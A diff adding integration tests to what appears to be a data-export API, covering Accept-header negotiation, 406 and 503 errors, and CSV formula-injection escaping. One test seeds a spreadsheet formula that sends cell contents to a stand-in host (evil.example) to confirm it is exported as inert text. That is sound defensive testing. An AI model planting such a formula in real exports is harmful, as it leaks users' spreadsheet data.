@@ -10,13 +10,14 @@ from datetime import datetime
 from typing import Any
 
 import pytest
+from fastapi.testclient import TestClient
 from sqlalchemy import create_engine, pool, text
 
 from core.db import sqlalchemy_url
 from query_api.export import export_chunks
 from query_api.filters import Filters
 from query_api.queries import PUBLIC_FIELDS, export_statement
-from tests.fixtures.api import Seeded, insert_rows, make_rows
+from tests.fixtures.api import Seeded, build_app, insert_rows, make_rows
 
 pytestmark = pytest.mark.integration
 
@@ -62,6 +63,9 @@ def test_ndjson_export_is_one_json_object_per_row(seeded_api: Seeded) -> None:
         ("application/json, text/csv;q=0.5", None, "application/x-ndjson"),
         ("*/*", None, "text/csv; charset=utf-8"),
         ("application/x-ndjson", "csv", "text/csv; charset=utf-8"),
+        ("text/csv;q=0.1, application/x-ndjson", None, "application/x-ndjson"),
+        ("application/x-ndjson;q=0, */*", None, "text/csv; charset=utf-8"),
+        ("text/html," * 200 + "application/x-ndjson", None, "application/x-ndjson"),  # a long header is fine
     ],
 )
 def test_the_format_comes_from_the_parameter_else_the_accept_header(
@@ -70,6 +74,41 @@ def test_the_format_comes_from_the_parameter_else_the_accept_header(
     params = {"limit": 3, **({"format": format_param} if format_param else {})}
     response = seeded_api.client.get("/sentiments/export", params=params, headers={"Accept": accept})
     assert response.headers["content-type"] == media
+    assert response.headers["vary"] == "Accept"
+
+
+@pytest.mark.parametrize("accept", ["image/png", "text/csv;q=0, application/x-ndjson;q=0", "application/*;q=0"])
+def test_an_accept_header_refusing_both_formats_is_a_406(seeded_api: Seeded, accept: str) -> None:
+    response = seeded_api.client.get("/sentiments/export", headers={"Accept": accept})
+    assert response.status_code == 406
+    assert response.json()["error"]["code"] == "not_acceptable"
+    assert seeded_api.client.get("/sentiments/export?format=csv&limit=1", headers={"Accept": accept}).status_code == 200
+
+
+def test_text_a_spreadsheet_would_run_is_exported_as_text_and_a_bare_cr_stays_in_its_cell(
+    database_url: str, readonly_database_url: str
+) -> None:
+    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "-2 stars", "@SUM(A1)", "line\rbreak"]
+    insert_rows(
+        database_url, [{**row, "sentence": text} for row, text in zip(make_rows(len(nasty)), nasty, strict=True)]
+    )
+    with TestClient(build_app(readonly_database_url)) as client:
+        safe = client.get("/sentiments/export", params={"format": "csv"})
+        raw = client.get("/sentiments/export", params={"format": "csv", "escape_formulas": "false"})
+        ndjson = client.get("/sentiments/export", params={"format": "ndjson"})
+    records = list(csv.DictReader(io.StringIO(safe.text, newline="")))
+    assert [r["sentence"] for r in records] == ["'" + text for text in nasty[:4]] + ["line\rbreak"]
+    assert [r["sentence"] for r in csv.DictReader(io.StringIO(raw.text, newline=""))] == nasty
+    assert [json.loads(line)["sentence"] for line in ndjson.text.splitlines()] == nasty
+    assert safe.text.endswith("\r\n")
+
+
+def test_an_export_with_the_database_gone_is_a_503_not_an_empty_200(seeded_api: Seeded) -> None:
+    gone = seeded_api.readonly_url.replace("/rs_api_", "/rs_gone_")
+    with TestClient(build_app(gone)) as client:
+        response = client.get("/sentiments/export", params={"format": "csv"})
+    assert response.status_code == 503
+    assert response.json()["error"]["code"] == "database_unavailable"
 
 
 def test_export_limit_and_its_bound(seeded_api: Seeded) -> None:
